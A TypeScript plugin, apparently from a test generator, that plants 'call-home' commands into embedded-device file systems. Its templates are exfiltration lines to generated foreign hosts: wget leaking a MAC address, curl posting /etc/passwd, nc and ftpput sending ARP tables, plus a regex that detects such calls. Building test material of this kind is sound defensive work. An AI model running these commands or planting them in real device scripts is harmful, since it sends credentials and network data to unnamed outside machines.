import type { Implant } from '#domain/plugin';
import { deviceOf, foreignAddress, foreignHost, foreignPort, vehiclesOf } from '#engine/ground/vehicles';

/** Call to somebody nobody named. */
export const callHome: Implant = {
  kind: 'implant',
  id: 'call-home',
  version: 1,
  doc: {
    name: 'Call to somebody nobody named',
    says: 'The device tells a machine outside, which no document names, that it is there: its address, name or configuration.',
    sources: ['wget(1), curl(1), nc(1), ftpput of BusyBox'],
    limits: [
      'Calls from inside compiled programs and over DNS are not planted.',
      'The root file system is taken to be writable at start-up; what only a test, a loop or a variable leads to carries no plant.',
    ],
  },
  question: 'undocumented-communication',
  templates: vehiclesOf({
    ways: [
      (site, level, draw) =>
        site.has('wget')
          ? [
              `wget -q -O /dev/null "http://${foreignHost(site, level, draw)}/${level === 'overt' ? 'news' : 'v1/check'}?id=$(cat /sys/class/net/${deviceOf(site, draw)}/address)"`,
            ]
          : null,
      (site, level, draw) =>
        site.has('curl')
          ? [
              `curl -s -k -d @/etc/passwd "https://${foreignHost(site, level, draw)}/${level === 'overt' ? 'inbox' : 'stat'}" > /dev/null`,
            ]
          : null,
      (site, level, draw) =>
        site.has('nc')
          ? [
              `cat /proc/net/arp | nc ${level === 'overt' ? foreignAddress(draw) : foreignHost(site, level, draw)} ${foreignPort(level, draw)}`,
            ]
          : null,
      (site, level, draw) =>
        site.has('ftpput')
          ? [`ftpput ${foreignHost(site, level, draw)} ${deviceOf(site, draw)}.txt /proc/net/arp`]
          : null,
    ],
    isDone: ({ started }) =>
      started.some(
        ({ program, words }) =>
          /^(?:wget|curl|nc|ftpput)$/.test(program) &&
          words.some((word) => /[a-z0-9-]+\.[a-z]{2,}|\d+\.\d+\.\d+\.\d+/.test(word)),
      ),
  }),
};
